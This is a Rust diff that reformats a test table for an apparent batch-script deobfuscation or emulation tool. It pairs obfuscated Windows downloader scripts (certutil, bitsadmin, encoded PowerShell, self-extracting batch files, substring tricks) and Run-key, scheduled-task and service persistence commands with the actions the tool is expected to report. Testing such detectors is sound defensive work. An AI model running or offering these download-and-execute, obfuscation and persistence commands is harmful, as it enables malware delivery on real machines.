@@ -6,22 +6,37 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "certutil",
         "@echo off\ncertutil -urlcache -split -f http://192.0.2.7/a.exe %TEMP%\\a.exe\nstart \"\" %TEMP%\\a.exe\n",
-        &["fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe", "run C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe"],
+        &[
+            "fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe",
+            "run C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\a.exe",
+        ],
     ),
     (
         "powershell",
         "@powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\a.exe');Start-Process 'C:\\a.exe'\"",
-        &["run powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\a.exe');Start-Process 'C:\\a.exe'\"", "evaluate powershell", "fetch http://192.0.2.7/a.exe to C:\\a.exe", "run C:\\a.exe"],
+        &[
+            "run powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a.exe','C:\\a.exe');Start-Process 'C:\\a.exe'\"",
+            "evaluate powershell",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+            "run C:\\a.exe",
+        ],
     ),
     (
         "powershell, encoded",
         "powershell.exe -NoP -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhAC4AZQB4AGUAJwAsACcAQwA6AFwAYQAuAGUAeABlACcAKQA= & exit",
-        &["run powershell.exe -NoP -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhAC4AZQB4AGUAJwAsACcAQwA6AFwAYQAuAGUAeABlACcAKQA=", "evaluate powershell", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run powershell.exe -NoP -enc KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADcALwBhAC4AZQB4AGUAJwAsACcAQwA6AFwAYQAuAGUAeABlACcAKQA=",
+            "evaluate powershell",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "bitsadmin",
         "bitsadmin /transfer j /download /priority high http://192.0.2.7/a.exe \"%APPDATA%\\a.exe\" >nul && \"%APPDATA%\\a.exe\"",
-        &["fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe", "run \"C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe\""],
+        &[
+            "fetch http://192.0.2.7/a.exe to C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe",
+            "run \"C:\\Users\\k.tanaka\\AppData\\Roaming\\a.exe\"",
+        ],
     ),
     (
         "curl",
@@ -41,7 +56,12 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "substrings",
         "set z=lhcertutilpq\n%z:~2,8% -urlcache -f http://192.0.2.7/a.exe C:\\a.exe\n%comspec:~-7,3% /c start %z:~-2,1%%z:~-1%.exe",
-        &["fetch http://192.0.2.7/a.exe to C:\\a.exe", "run cmd /c start pq.exe", "evaluate batch", "run pq.exe"],
+        &[
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+            "run cmd /c start pq.exe",
+            "evaluate batch",
+            "run pq.exe",
+        ],
     ),
     (
         "an alphabet",
@@ -66,7 +86,11 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "cmd with delayed expansion",
         "cmd /V:ON /C \"set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@&&!x:@=e!\"",
-        &["run cmd /V:ON /C \"set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@&&!x:@=e!\"", "evaluate batch", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run cmd /V:ON /C \"set x=c@rtutil -urlcach@ -f http://192.0.2.7/a.ex@ C:\\a.ex@&&!x:@=e!\"",
+            "evaluate batch",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "reversed in a loop",
@@ -86,7 +110,10 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "for over words",
         "for %%h in (192.0.2.1 192.0.2.2) do (\n  curl -o C:\\%%~nh.exe http://%%h/a\n)",
-        &["fetch http://192.0.2.1/a to C:\\192.0.2.exe", "fetch http://192.0.2.2/a to C:\\192.0.2.exe"],
+        &[
+            "fetch http://192.0.2.1/a to C:\\192.0.2.exe",
+            "fetch http://192.0.2.2/a to C:\\192.0.2.exe",
+        ],
     ),
     (
         "call",
@@ -116,27 +143,49 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "error level",
         "net session >nul 2>&1\nif %errorlevel% neq 0 (\n  powershell Start-Process C:\\b.exe -Verb runAs\n) else (\n  curl -o C:\\a.exe http://192.0.2.7/a.exe\n)",
-        &["run net session", "run powershell Start-Process C:\\b.exe -Verb runAs", "evaluate powershell", "run C:\\b.exe", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run net session",
+            "run powershell Start-Process C:\\b.exe -Verb runAs",
+            "evaluate powershell",
+            "run C:\\b.exe",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "a script is written and run",
         "@echo off\necho Set x=CreateObject(\"MSXML2.XMLHTTP\")> %temp%\\d.vbs\necho x.Open \"GET\",\"http://192.0.2.7/a.exe\",False>> %temp%\\d.vbs\necho x.Send>> %temp%\\d.vbs\ncscript //nologo %temp%\\d.vbs",
-        &["write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs 91", "run cscript //nologo C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs"],
+        &[
+            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs 91",
+            "run cscript //nologo C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\d.vbs",
+        ],
     ),
     (
         "a block is written",
         "(\necho $u='http://192.0.2.7/a.exe'\necho iwr $u -OutFile C:\\a.exe\n)>d.ps1\npowershell -ep bypass -file d.ps1",
-        &["write d.ps1 55", "run powershell -ep bypass -file d.ps1", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "write d.ps1 55",
+            "run powershell -ep bypass -file d.ps1",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "certutil decodes what was written",
         "echo -----BEGIN CERTIFICATE----->x.b64\necho Y3VybCAtbyBDOlxhLmV4ZSBodHRwOi8vMTkyLjAuMi43L2EuZXhlDQo=>>x.b64\necho -----END CERTIFICATE----->>x.b64\ncertutil -decode x.b64 x.bat\ncall x.bat",
-        &["write x.b64 114", "write x.bat 41", "run x.bat", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "write x.b64 114",
+            "write x.bat 41",
+            "run x.bat",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "registry and tasks",
         "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /t REG_SZ /d \"C:\\a.exe\" /f\nschtasks /create /sc onlogon /tn Upd /tr \"C:\\a.exe\" /f\nsc create Upd binPath= C:\\a.exe",
-        &["set HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd = C:\\a.exe", "set task Upd = C:\\a.exe", "set service Upd = C:\\a.exe"],
+        &[
+            "set HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Upd = C:\\a.exe",
+            "set task Upd = C:\\a.exe",
+            "set service Upd = C:\\a.exe",
+        ],
     ),
     (
         "mshta",
@@ -166,31 +215,51 @@ pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "wmic and environment",
         "set x=iwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\nwmic process call create \"powershell -c iex $env:x\"",
-        &["run powershell -c iex $env:x", "evaluate powershell", "evaluate powershell", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run powershell -c iex $env:x",
+            "evaluate powershell",
+            "evaluate powershell",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "PowerShell reads the batch itself",
         "@echo off\npowershell -c \"iex ((Get-Content '%~f0' | ? {$_ -like '::*'}) -replace '^::','')\"\nexit /b\n::iwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\n",
-        &["run powershell -c \"iex ((Get-Content 'C:\\Users\\k.tanaka\\Downloads\\script.bat' | ? {$_ -like '::*'}) -replace '^::','')\"", "evaluate powershell", "evaluate powershell", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run powershell -c \"iex ((Get-Content 'C:\\Users\\k.tanaka\\Downloads\\script.bat' | ? {$_ -like '::*'}) -replace '^::','')\"",
+            "evaluate powershell",
+            "evaluate powershell",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "findstr takes a script out of itself",
         "@echo off\nfindstr /b /v \"@ f p e\" \"%~f0\" > %temp%\\q.ps1\npowershell -f %temp%\\q.ps1\nexit\niwr http://192.0.2.7/a.exe -OutFile C:\\a.exe\n",
-        &["write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1 46", "run powershell -f C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "write C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1 46",
+            "run powershell -f C:\\Users\\k.tanaka\\AppData\\Local\\Temp\\q.ps1",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
-    (
-        "ping waits",
-        "ping -n 10 127.0.0.1 >nul\nping c2.example",
-        &["connect c2.example"],
-    ),
+    ("ping waits", "ping -n 10 127.0.0.1 >nul\nping c2.example", &["connect c2.example"]),
     (
         "nested cmd",
         "cmd /c \"cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"\"",
-        &["run cmd /c \"cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"\"", "evaluate batch", "run cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"", "evaluate batch", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run cmd /c \"cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"\"",
+            "evaluate batch",
+            "run cmd /c \"curl -o C:\\a.exe http://192.0.2.7/a.exe\"",
+            "evaluate batch",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
     (
         "loop of letters on a command line",
         "cmd /c \"for /f \"tokens=*\" %%a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %%a\"",
-        &["run cmd /c \"for /f \"tokens=*\" %a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %a\"", "evaluate batch", "fetch http://192.0.2.7/a.exe to C:\\a.exe"],
+        &[
+            "run cmd /c \"for /f \"tokens=*\" %a in ('echo curl -o C:\\a.exe http://192.0.2.7/a.exe') do %a\"",
+            "evaluate batch",
+            "fetch http://192.0.2.7/a.exe to C:\\a.exe",
+        ],
     ),
 ];
